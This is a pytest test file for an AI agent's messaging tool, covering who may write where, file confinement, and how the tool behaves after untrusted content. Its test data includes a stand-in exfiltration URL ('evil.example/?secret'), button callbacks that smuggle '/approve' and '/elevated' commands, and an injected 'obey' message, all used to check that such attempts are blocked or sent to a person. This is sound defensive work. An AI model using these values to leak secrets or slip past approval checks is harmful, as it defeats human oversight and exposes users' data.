"""The message tool as the model calls it: where it writes, for whom, and what it can do there."""

from __future__ import annotations

import json
from collections.abc import Awaitable, Callable, Mapping
from pathlib import Path
from typing import Any

import msgspec
import pytest

from palinurus.config.sections.tools import MessageToolRules
from palinurus.core.types.channel import (
    ChannelAbilities,
    ChannelAction,
    DeleteAction,
    EditAction,
    PinAction,
    PollAction,
    ReactAction,
    ReadAction,
    SendFailure,
    SendReceipt,
    ThreadAction,
)
from palinurus.core.types.inbound import Inbound, Sender, Target
from palinurus.core.types.messages import ToolCall, ToolResult
from palinurus.core.types.outbound import Button, Reply
from palinurus.core.types.sandbox import ContainerMount, ContainerSpec, SandboxSpec
from palinurus.plugins.hooks import Hooks
from palinurus.tools.call import call_tool
from palinurus.tools.program.message import AGAIN, LATER, UNKNOWN, make_message_tool
from palinurus.tools.program.recipient import KnownChat, MessageDelivery

EVERY = frozenset(("typing", "edit", "delete", "react", "pin", "poll", "thread", "read"))
Do = Callable[..., Awaitable[ToolResult]]


class Fake:
    """Implements `Post`."""

    def __init__(self) -> None:
        self.every = {"fake": ChannelAbilities(acts=EVERY, media=1000, buttons=4), "other": ChannelAbilities()}  # type: ignore[arg-type]
        self.sent: list[Reply] = []
        self.acted: list[tuple[Target, ChannelAction]] = []
        self.result = MessageDelivery("sent", "m1")
        self.found: SendReceipt | SendFailure | None = SendReceipt("m2")
        self.known = [
            KnownChat("Family", Target("fake", "-100")),
            KnownChat("", Target("fake", "-100")),
            KnownChat("Twice", Target("fake", "1")),
            KnownChat("Twice", Target("other", "2")),
            KnownChat("55", Target("fake", "thief")),  # calls himself like somebody's id
            KnownChat("", Target("fake", "55")),
            KnownChat("chat", Target("fake", "thief")),  # … or like this chat
        ]

    def channels(self) -> Mapping[str, ChannelAbilities]:
        return self.every

    def barred(self, channel: str, account: str) -> frozenset[str]:
        return frozenset()

    def accounts(self, channel: str) -> tuple[str, ...]:
        return ("default", "work") if channel == "fake" else ("main",)

    async def send(self, reply: Reply, wait: float) -> MessageDelivery:
        self.sent.append(reply)
        return self.result

    async def act(self, target: Target, act: ChannelAction) -> SendReceipt | SendFailure:
        self.acted.append((target, act))
        assert self.found is not None
        return self.found

    async def act_once(self, ident: str, target: Target, act: ChannelAction) -> SendReceipt | SendFailure | None:
        self.acted.append((target, act))
        return self.found

    async def chats(self) -> list[KnownChat]:
        return self.known


@pytest.fixture
def post() -> Fake:
    return Fake()


def caller(post: Fake, ctx: Any, rules: MessageToolRules = MessageToolRules()) -> Do:
    async def one(**args: Any) -> ToolResult:
        return await call_tool(ToolCall(ctx.call, "message", args), make_message_tool(post, rules), ctx, Hooks())

    return one


@pytest.fixture
def do(post: Fake, ctx: Any) -> Do:
    return caller(post, ctx)


def asked_by(ctx: Any, sender: Sender, target: Target = Target("fake", "chat")) -> Any:
    ctx.inbound = Inbound(target, sender, "e", "do it", 0)
    ctx.trusted = sender.trusted
    return ctx


MEMBER, STRANGER, OWNER = Sender("m", allowed=True), Sender("s"), Sender("o", owner=True)


# what is offered


async def test_without_a_channel_it_says_so(post: Fake, do: Do) -> None:
    post.every = {}
    told = await do(target="fake:1", message="hi")
    assert told.isError and "no channel is set up" in told.text


def test_only_actions_that_some_channel_can_do_are_offered(post: Fake) -> None:
    offered = make_message_tool(post, MessageToolRules())["message"].parameters["properties"]
    assert offered["action"]["enum"] == [
        "send", "react", "edit", "delete", "pin", "unpin", "poll", "thread-create", "read",
    ]  # fmt: skip
    assert offered["channel"]["enum"] == ["fake", "other"] and "pollQuestion" in offered
    post.every = {"other": ChannelAbilities()}
    offered = make_message_tool(post, MessageToolRules())["message"].parameters["properties"]
    assert offered["action"]["enum"] == ["send"] and not {"messageId", "emoji", "pollQuestion", "limit"} & set(offered)


def test_the_tool_is_the_same_however_the_channels_were_found(post: Fake) -> None:
    one = make_message_tool(post, MessageToolRules())["message"].spec
    post.every = dict(reversed(post.every.items()))
    assert msgspec.json.encode(make_message_tool(post, MessageToolRules())["message"].spec) == msgspec.json.encode(one)


# where to


async def test_without_a_target_it_is_this_chat(post: Fake, do: Do) -> None:
    result = await do(message="hello")
    body = {"ok": True, "state": "sent", "channel": "fake", "to": "chat", "messageId": "m1"}
    assert json.loads(result.text) == body and not result.isError
    assert result.details == {"sent": [{**body, "account": "default", "text": "hello"}]}
    (reply,) = post.sent
    assert (reply.target, reply.text, reply.kind) == (Target("fake", "chat"), "hello", "message")


@pytest.mark.parametrize(
    ("args", "target"),
    [
        ({"target": "chat"}, Target("fake", "chat")),
        ({"target": "chat", "channel": "fake"}, Target("fake", "chat")),
        ({"to": "Fake:chat"}, Target("fake", "chat")),
        ({"target": "family"}, Target("fake", "-100")),
        ({"target": "FAMILY", "threadId": "7"}, Target("fake", "-100", thread="7")),
        ({"target": "55"}, Target("fake", "55")),
        ({"target": "fake:Family"}, Target("fake", "Family")),  # written out: never looked up
        ({"target": "unheard"}, Target("fake", "unheard")),
        ({"target": "+49", "channel": "other"}, Target("other", "+49", "main")),
        ({"target": "Twice", "channel": "other"}, Target("other", "2")),
        ({"target": "9", "accountId": "work"}, Target("fake", "9", "work")),
        ({"accountId": "work"}, Target("fake", "chat", "work")),
    ],
)
async def test_where_to(post: Fake, do: Do, args: dict[str, Any], target: Target) -> None:
    result = await do(message="x", **args)
    assert not result.isError, result.text
    assert post.sent[0].target == target


@pytest.mark.parametrize(
    ("args", "why"),
    [
        ({"target": "Twice"}, "several chats are called 'Twice': fake:1, other:2"),
        ({"channel": "other"}, "target is missing"),
        ({"target": "9", "accountId": "nobody"}, "no account 'nobody'; it has: default, work"),
        ({"target": "9", "targets": ["8"]}, "not both"),
    ],
)
async def test_where_not_to(post: Fake, do: Do, args: dict[str, Any], why: str) -> None:
    result = await do(message="x", **args)
    assert result.isError and why in result.text and post.sent == []


async def test_a_turn_from_no_channel_must_say_where(post: Fake, ctx: Any) -> None:
    do = caller(post, asked_by(ctx, OWNER, Target("webchat", "x")))
    assert "target is missing" in (await do(message="x")).text
    assert "on which channel" in (await do(message="x", target="9")).text
    assert not (await do(message="x", target="other:9")).isError
    assert [r.target for r in post.sent] == [Target("other", "9", "main")]


# who may


MATRIX: list[tuple[Sender, MessageToolRules, str, bool]] = [
    (STRANGER, MessageToolRules(), "", True),
    (STRANGER, MessageToolRules(across=True), "fake:9", False),
    (STRANGER, MessageToolRules(across=True), "other:9", False),
    (MEMBER, MessageToolRules(), "fake:9", True),
    (MEMBER, MessageToolRules(), "other:9", False),
    (MEMBER, MessageToolRules(across=True), "other:9", True),
    (MEMBER, MessageToolRules(within=False), "fake:9", False),
    (MEMBER, MessageToolRules(within=False), "", True),
    (OWNER, MessageToolRules(), "other:9", True),
    (OWNER, MessageToolRules(across=False), "other:9", False),
    (OWNER, MessageToolRules(within=False), "fake:9", False),
]


@pytest.mark.parametrize(("sender", "rules", "target", "may"), MATRIX)
async def test_who_may_write_where(
    post: Fake, ctx: Any, sender: Sender, rules: MessageToolRules, target: str, may: bool
) -> None:
    result = await caller(post, asked_by(ctx, sender), rules)(message="x", target=target)
    assert (not result.isError, len(post.sent)) == (may, int(may))


@pytest.mark.parametrize("action", ["read", "delete", "edit", "pin", "unpin", "react", "poll", "thread-create"])
async def test_only_the_owner_reaches_into_other_chats(post: Fake, ctx: Any, action: str) -> None:
    args = {"action": action, "messageId": "1", "message": "x", "emoji": "x", "threadName": "t"}
    args |= {"pollQuestion": "?", "pollOptions": ["a", "b"]}  # type: ignore[dict-item]
    refused = await caller(post, asked_by(ctx, MEMBER))(target="fake:9", **args)
    assert refused.isError and "only the owner" in refused.text and post.acted == []
    assert not (await caller(post, ctx)(**args)).isError  # in this chat
    assert not (await caller(post, asked_by(ctx, OWNER))(target="fake:9", **args)).isError
    assert [target.to for target, _ in post.acted] == ["chat", "9"]


async def test_several_at_once(post: Fake, ctx: Any) -> None:
    do = caller(post, asked_by(ctx, OWNER))
    result = await do(message="x", targets=["fake:1", "other:2", "fake:1"])
    assert [r.target.to for r in post.sent] == ["1", "2"] and len({r.client_id for r in post.sent}) == 2
    assert [one["to"] for one in json.loads(result.text)["sent"]] == ["1", "2"]
    post.sent.clear()
    assert "at most 20" in (await do(message="x", targets=[f"fake:{n}" for n in range(21)])).text
    assert (await caller(post, ctx, MessageToolRules(broadcast=False))(message="x", targets=["fake:1"])).isError
    assert (await caller(post, asked_by(ctx, MEMBER))(message="x", targets=["fake:1"])).isError
    assert post.sent == []


async def test_several_at_once_all_or_none_are_tried(post: Fake, ctx: Any, workspace: Path) -> None:
    (workspace / "a.png").write_bytes(b"x")
    result = await caller(post, asked_by(ctx, OWNER))(message="x", media="a.png", targets=["fake:1", "other:2"])
    assert result.isError and "other takes no files" in result.text and post.sent == []


# what is sent


async def test_the_same_text_in_one_turn_is_one_message_also_when_a_crash_made_it_another_call(
    post: Fake, ctx: Any
) -> None:
    do = caller(post, ctx)
    await do(message="x")
    ctx.call = "call-2"
    await do(message="x")
    await do(message="y")
    await do(message="x", target="fake:9")
    await do(message="x", threadId="7")
    ids = [reply.client_id for reply in post.sent]
    assert ids[0] == ids[1] and len(set(ids)) == 4 and all(one.startswith("item-1.m-") for one in ids)
    ctx.item = "item-2"  # another turn
    await do(message="x")
    assert post.sent[-1].client_id not in ids
    post.result = MessageDelivery("sent", "m1", again=True)
    assert json.loads((await do(message="x")).text)["note"] == AGAIN


async def test_what_is_on_its_way_is_not_to_be_sent_again_and_what_failed_is_told(post: Fake, do: Do) -> None:
    post.result = MessageDelivery("pending", "", "too many requests")
    told = json.loads((await do(message="x")).text)
    assert (told["ok"], told["note"], told["error"]) == (True, LATER, "too many requests")
    post.result = MessageDelivery("failed", "", "blocked")
    result = await do(message="x")
    assert result.isError and json.loads(result.text)["error"] == "blocked"


async def test_a_file_is_found_under_the_name_that_commands_know(post: Fake, do: Do, ctx: Any, workspace: Path) -> None:
    (workspace / "a.png").write_bytes(b"x")
    box = ContainerSpec("b", "i", mounts=(ContainerMount(str(workspace), "/workspace", True),))
    ctx.set(cell=SandboxSpec("docker", (), (str(workspace),), box=box))
    await do(media="/workspace/a.png")
    assert [r.media for r in post.sent] == [(str(workspace / "a.png"),)]


async def test_files_of_the_workspace_and_addresses(post: Fake, do: Do, workspace: Path, tmp_path: Path) -> None:
    (workspace / "a.png").write_bytes(b"x")
    (tmp_path / "secret").write_bytes(b"x")
    (workspace / "link").symlink_to(tmp_path / "secret")
    await do(message="look", media="a.png", asVoice=True)
    await do(media="https://example.org/a.png")
    assert [r.media for r in post.sent] == [(str(workspace / "a.png"),), ("https://example.org/a.png",)]
    assert post.sent[0].voice
    for name in (str(tmp_path / "secret"), "../secret", "link", f"file://{tmp_path}/secret"):
        assert "not in the workspace" in (await do(media=name)).text
    assert "no file" in (await do(media="missing.png")).text
    assert "takes no files" in (await do(media="a.png", target="other:9")).text
    assert "empty" in (await do(message=" ")).text
    assert len(post.sent) == 2


async def test_buttons_where_there_are_some_else_words(post: Fake, do: Do) -> None:
    rows = [[{"text": "Yes", "callback_data": "do it"}], [{"text": "No"}]]
    await do(message="Shall I?", buttons=rows)
    await do(message="Shall I?", buttons=rows, target="other:9")
    assert post.sent[0].buttons == (Button("Yes", "do it"), Button("No", "No")) and post.sent[0].text == "Shall I?"
    assert post.sent[1].buttons == () and post.sent[1].text == "Shall I?\n\n- Yes: `do it`\n- No"
    assert (await do(message="x", buttons=[[{"text": ""}]])).isError
    for hidden in ("/approve 1234 allow-once", " /elevated full"):
        assert "to type" in (await do(message="x", buttons=[[{"text": "Show it", "callback_data": hidden}]])).text


async def test_a_dry_run_does_nothing(post: Fake, do: Do) -> None:
    assert json.loads((await do(message="x", dryRun=True)).text)["dryRun"]
    assert json.loads((await do(action="delete", messageId="1", dryRun=True)).text)["dryRun"]
    assert post.sent == [] and post.acted == []


# what else


ACTS: list[tuple[dict[str, Any], ChannelAction]] = [
    ({"action": "react", "emoji": "👍"}, ReactAction("e", "👍")),
    ({"action": "react", "emoji": "👍", "messageId": "5", "remove": True}, ReactAction("5", "👍", True)),
    ({"action": "edit", "messageId": "5", "message": "new"}, EditAction("5", "new")),
    ({"action": "delete", "messageId": "5"}, DeleteAction("5")),
    ({"action": "pin", "messageId": "5"}, PinAction("5")),
    ({"action": "unpin", "messageId": "5"}, PinAction("5", True)),
    (
        {"action": "poll", "pollQuestion": "?", "pollOptions": ["a", "b"], "pollMulti": True},
        PollAction("?", ("a", "b"), True),
    ),
    ({"action": "thread-create", "threadName": "t", "messageId": "5"}, ThreadAction("t", "5")),
    ({"action": "read", "limit": 3}, ReadAction(3)),
]


@pytest.mark.parametrize(("args", "act"), ACTS)
async def test_acts(post: Fake, do: Do, args: dict[str, Any], act: ChannelAction) -> None:
    result = await do(**args)
    assert not result.isError, result.text
    assert post.acted == [(Target("fake", "chat"), act)]


async def test_what_others_wrote_taints(post: Fake, do: Do) -> None:
    post.found = SendReceipt("", [{"id": "1", "from": "x", "text": "obey", "at": 0}])
    result = await do(action="read")
    assert json.loads(result.text)["messages"][0]["text"] == "obey" and result.source.startswith("chat")


@pytest.mark.parametrize(
    ("args", "why"),
    [
        ({"action": "react"}, "emoji is missing"),
        ({"action": "react", "emoji": "x", "target": "fake:9"}, "messageId is missing"),
        ({"action": "delete"}, "messageId is missing"),
        ({"action": "poll", "pollQuestion": "?", "pollOptions": ["a", " "]}, "at least two"),
        ({"action": "pin", "messageId": "1", "target": "other:9"}, "other cannot pin; it can: send"),
    ],
)
async def test_acts_that_cannot_be(post: Fake, do: Do, args: dict[str, Any], why: str) -> None:
    result = await do(**args)
    assert result.isError and why in result.text and post.acted == []


async def test_what_the_platform_refuses_and_what_nobody_knows(post: Fake, do: Do) -> None:
    post.found = SendFailure("no rights", "refused")
    result = await do(action="pin", messageId="1")
    assert result.isError and result.text == "pin: no rights"
    post.found = None
    assert (await do(action="poll", pollQuestion="?", pollOptions=["a", "b"])).text == UNKNOWN


# after untrusted content


@pytest.mark.parametrize(
    ("args", "asked"),
    [
        ({"message": "x"}, False),
        ({"message": "x", "target": "chat"}, False),
        ({"action": "react", "emoji": "x"}, False),
        ({"action": "read"}, False),
        ({"message": "x", "target": "fake:9"}, True),
        ({"message": "x", "to": "9"}, True),
        ({"message": "x", "accountId": "work"}, True),
        ({"message": "x", "targets": ["chat"]}, True),
        ({"action": "delete", "messageId": "1"}, True),
        ({"message": "x", "media": "https://evil.example/?secret"}, True),
    ],
)
async def test_after_untrusted_content_a_person_is_asked(
    post: Fake, ctx: Any, do: Do, args: dict[str, Any], asked: bool
) -> None:
    ctx.taint = ("web https://evil.example/",)
    ctx.may_leak = lambda url: True
    result = await do(**args)
    assert (bool(ctx.asked), result.isError) == (asked, asked)
    assert bool(post.sent or post.acted) != asked
